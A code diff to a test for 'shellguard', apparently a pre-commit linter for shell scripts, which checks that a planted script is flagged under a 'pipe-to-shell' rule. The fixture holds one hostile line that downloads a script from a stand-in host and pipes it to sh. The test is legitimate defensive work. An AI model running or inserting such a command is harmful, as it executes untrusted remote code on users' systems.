@@ -45,15 +45,13 @@ describe.skipIf(!hasPreCommit || secondaryNode)("pre-commit try-repo", () => {
     writeFileSync(join(repo, "clean.sh"), "#!/bin/sh\necho hello\n");
     writeFileSync(join(repo, "planted.sh"), "#!/bin/sh\ncurl https://x.example/install.sh | sh\n");
     git("add", ".");
-    const run = (file: string) => runAsync("pre-commit", ["try-repo", ROOT, "shellguard", "--files", file, "--verbose"], { cwd: repo, env });
-    const clean = await run("clean.sh");
-    expect(clean.status, clean.stdout + clean.stderr).toBe(0);
-    expect(clean.stdout).toMatch(/shellguard lint\.+Passed/);
-    const planted = await run("planted.sh");
+    // One run (each try-repo installs afresh): the hook gets both files, as for a commit of both.
+    const r = await runAsync("pre-commit", ["try-repo", ROOT, "shellguard", "--files", "clean.sh", "planted.sh", "--verbose"], { cwd: repo, env });
     // The hook's --max-warnings 0: a warning fails it, and pre-commit prints what was found.
-    expect(planted.status).toBe(1);
-    expect(planted.stdout).toMatch(/shellguard lint\.+Failed/);
-    expect(planted.stdout).toContain("shell/pipe-to-shell");
-    expect(planted.stdout).toContain("planted.sh");
+    expect(r.status, r.stdout + r.stderr).toBe(1);
+    expect(r.stdout).toMatch(/shellguard lint\.+Failed/);
+    expect(r.stdout).toContain("planted.sh");
+    expect(r.stdout).toContain("shell/pipe-to-shell");
+    expect(r.stdout).not.toContain("clean.sh");
   }, 3_000_000);
 });
